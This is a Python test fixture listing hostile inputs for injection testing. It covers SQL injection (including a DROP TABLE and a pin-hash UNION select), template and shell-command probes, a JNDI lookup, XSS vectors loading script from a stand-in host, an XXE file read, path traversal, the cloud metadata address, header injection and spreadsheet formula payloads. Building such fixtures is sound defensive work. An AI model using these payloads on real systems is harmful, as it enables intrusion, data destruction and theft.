"""What hostile people type: for any parameter (INJ-01), as markup (INJ-02), at the head of a cell (INJ-04)."""

# ruff: noqa: E501

from __future__ import annotations

#: About 120 payloads for any parameter, of every kind of interpreter that might stand behind it.
ANY: tuple[str, ...] = (
    # SQL
    "'", '"', "''", "`", "';", "\\'", "1'", "1' OR '1'='1", "1' OR '1'='1' --", "1) OR (1=1", "1 OR 1=1", "' OR ''='",
    "'; DROP TABLE ticket; --", "1; SELECT pg_sleep(5)", "1' AND (SELECT 1 FROM pg_sleep(5)) --", "1 UNION SELECT NULL",
    "' UNION SELECT sigle, pin_hash FROM account --", "1' AND randomblob(300000000) --", "/**/OR/**/1=1", "%' --",
    "%", "_", "%%%%%%%%%%%%%%%%%%%%", "1 /*", "0x31", "CHAR(49)", "$$;--", "E'\\x27'", "1::int", ":pin", "?", "%(pin)s",
    # full-text search
    '"', "*", "a*", "(", ")", "a AND", "NEAR(", "NOT", "a OR b", "-a", "^a", "title:a", '"a" NEAR/2 "b"', "a & | !", "{a}",
    # templates, format strings, expressions
    "{{7*7}}", "{{config}}", "{% for x in (1,) %}{{x}}{% endfor %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%s%s%n",
    "{0.__class__}", "{self}", "$(id)", "`id`", "; id", "| id", "&& id", "__import__('os')", "${jndi:ldap://x/a}",
    # markup
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
    "</textarea><script>alert(1)</script>", "<!--", "]]>", "&lt;script&gt;", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
    # paths and addresses
    "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/etc/passwd", "C:\\windows\\win.ini", "file:///etc/passwd",
    "//exemple.invalid/", "http://169.254.169.254/", "\\\\exemple\\partage", ".", "..", "./", "~root", "con", "a/b",
    # lines and headers
    "a\r\nX-Injected: 1", "a\nb", "a\rb", "%0d%0aX-Injected:%201", "a\x00b", "\x00", "a\x1b[31m", "\x7f", "\u2028", "\u2029",
    # numbers and days
    "0", "-1", "1", "1.5", "1e309", "NaN", "Infinity", "9223372036854775807", "9223372036854775808", "9" * 400, "٣", "０",
    "0x10", "1_000", "+1", "2026-02-30", "0000-00-00", "9999-12-31", "99999-01-01", "2026-11-25T00:00:00Z", "true",
    # text
    "", " ", "\u00a0", "\ufeff", "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"), "é" * 300,
    "e\u0301" * 300, "\u202etxt.exe", "a" * 5000, "ﬃ", "İ", "ß" * 200, "\U0010ffff", "null", "undefined", "None", "[]",
)

#: Markup that a browser might run, in a text that people write (HTML and Markdown).
MARKUP: tuple[str, ...] = (
    "<script>window.pris=1</script>", "<ScRiPt>window.pris=1</sCrIpT>", "<script src=//exemple.invalid/x.js></script>",
    "<img src=x onerror=window.pris=1>", "<img src=x onerror='window.pris=1' /", "<svg onload=window.pris=1>",
    "<svg><script>window.pris=1</script></svg>", "<body onload=window.pris=1>", "<details open ontoggle=window.pris=1>x</details>",
    "<iframe srcdoc='<script>parent.pris=1</script>'></iframe>", "<iframe src=javascript:parent.pris=1></iframe>",
    "<object data=javascript:window.pris=1></object>", "<embed src=javascript:window.pris=1>",
    "<a href=javascript:window.pris=1>lien</a>", "<a href='java\nscript:window.pris=1'>lien</a>",
    "<form action=javascript:window.pris=1><button>ok</button></form>", "<input autofocus onfocus=window.pris=1>",
    "<math><mi xlink:href='javascript:window.pris=1'>x</mi></math>", "<style>@import 'javascript:window.pris=1';</style>",
    "<link rel=stylesheet href=//exemple.invalid/x.css>", "<meta http-equiv=refresh content='0;url=javascript:window.pris=1'>",
    "<base href=//exemple.invalid/>", "<p style='background:url(javascript:window.pris=1)'>x</p>",
    "<video><source onerror=window.pris=1></video>", "<audio src=x onerror=window.pris=1>",
    "<marquee onstart=window.pris=1>x</marquee>", "<template><script>window.pris=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pris=1>\">", "<!--><img src=x onerror=window.pris=1>-->",
    "</div></main><script>window.pris=1</script>", "&lt;script&gt;window.pris=1&lt;/script&gt;",
    "[lien](javascript:window.pris=1)", "[lien](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHJpcz0xPC9zY3JpcHQ+)",
    "[lien](vbscript:window.pris=1)", "[lien](<javascript:window.pris=1> 'titre')", "![image](javascript:window.pris=1)",
    "![image](x\"onerror=\"window.pris=1)", "<javascript:window.pris=1>", "[a]: javascript:window.pris=1\n\n[a]",
    "`<script>window.pris=1</script>`", "| a | b |\n|---|---|\n| <script>window.pris=1</script> | x |",
)

#: How a cell may begin for a spreadsheet to compute it.
CELLS: tuple[str, ...] = (
    "=1+1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://exemple.invalid\";\"x\")", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\u00a0=1+1", "\u202f+1", "'=1+1", "\"=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=IMPORTXML(\"x\")", "|=1",
)
